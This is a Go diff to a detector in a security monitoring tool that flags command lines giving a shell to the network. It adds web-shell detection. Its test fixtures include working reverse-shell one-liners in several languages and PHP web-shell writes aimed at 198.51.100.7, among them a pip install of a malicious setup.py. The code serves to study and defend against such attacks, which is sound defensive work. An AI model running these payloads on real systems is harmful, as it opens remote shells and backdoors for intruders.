@@ -1,6 +1,8 @@
 package detect
 
 import (
+	"regexp"
+
 	"github.com/code-on-incus/coi/cmd/coi-watch/internal/command"
 	"github.com/code-on-incus/coi/cmd/coi-watch/internal/program"
 	"github.com/code-on-incus/coi/cmd/coi-watch/internal/track"
@@ -12,7 +14,7 @@ var shellInline = Detector{
 	Title:  "program text that gives a shell to the network",
 	Why:    "code on the command line opens a connection and hands a shell to it",
 	Detect: onCommands(inline),
-	Fire: lines(coi.Critical,
+	Fire: append(lines(coi.High, `echo '<?php system($_GET["c"]); ?>' > /var/www/html/s.php`, `printf '<?=eval($_POST[1])?>' | tee public/x.php`), lines(coi.Critical,
 		`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`,
 		`perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"198.51.100.7:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`,
 		`php -r '$s=fsockopen("198.51.100.7",4242);popen("/bin/sh -i <&3 >&3 2>&3", "r");'`,
@@ -32,11 +34,13 @@ python3 /tmp/a.py`,
 		`/tmp/zz -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4242));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`,
 		`echo 'set s [socket 198.51.100.7 4242];while 42 { puts -nonewline $s "shell>";flush $s;gets $s c;set e "exec $c";if {![catch {set r [eval $e]} err]} {puts $s $r};flush $s;}' | tclsh`,
 		`powershell -c '$c = New-Object System.Net.Sockets.TCPClient("198.51.100.7",4242);$s=$c.GetStream();iex $d'`,
-	),
+		`elixir -e '{:ok,s}=:gen_tcp.connect(~c"198.51.100.7",4242,[:binary,active: false]);{:ok,d}=:gen_tcp.recv(s,0);{o,_}=System.cmd("sh",["-c",d]);:gen_tcp.send(s,o)'`,
+		"mkdir /tmp/pk; echo 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.7\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")' > /tmp/pk/setup.py; pip install /tmp/pk",
+	)...),
 	Quiet: lines("",
 		`python -c "import socket; socket.create_connection(('127.0.0.1',8888))"`,
 		`python -c "import socket; s=socket.socket(); s.connect(('localhost', 8081)); s.close()" || exit 1`,
-		`node -e 'require("./x")'`, `php -r "file_exists('.env') || copy('.env.example', '.env');"`,
+		`echo '<?php echo $_GET["c"]; ?>' > public/x.php`, `node -e 'require("./x")'`, `php -r "file_exists('.env') || copy('.env.example', '.env');"`,
 		`python3 -c 'import subprocess; print(subprocess.check_output(["git","describe"]))'`,
 		`python3 -c "import socket;s=socket.socket();s.bind(('',0));print(s.getsockname()[1])"`,
 		`node -e 'require("http").createServer((q,r)=>r.end("ok")).listen(3000)'`,
@@ -61,6 +65,9 @@ func inline(s *command.Simple, v track.View) *Finding {
 		f.Level = level
 		return f
 	}
+	if f := webShell(s); f != nil {
+		return f
+	}
 	for _, c := range s.Code {
 		l := inlineLevel(traits(c), c.File)
 		if l == "" {
@@ -70,6 +77,19 @@ func inline(s *command.Simple, v track.View) *Finding {
 			level = l
 		}
 		return say(s, level, "code that gives a shell to the network").to(codeHost(c))
+	}
+	return nil
+}
+
+// requestRun is page code that runs what a request says.
+var requestRun = regexp.MustCompile(`(?is)(?:<\?(?:php|=)?.*\b(?:system|exec|passthru|shell_exec|popen|proc_open|eval|assert)\s*\(\s*@?\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\b|<%.*getRuntime\(\)\.exec\(\s*request\.getParameter)`)
+
+// webShell is a page written to a file that hands requests to a shell.
+func webShell(s *command.Simple) *Finding {
+	for _, a := range s.Accesses() {
+		if changes(a.Op) && a.Known && requestRun.MatchString(a.Text) {
+			return say(s, coi.High, "page written that runs what requests say").at(a.Path, a.Op)
+		}
 	}
 	return nil
 }
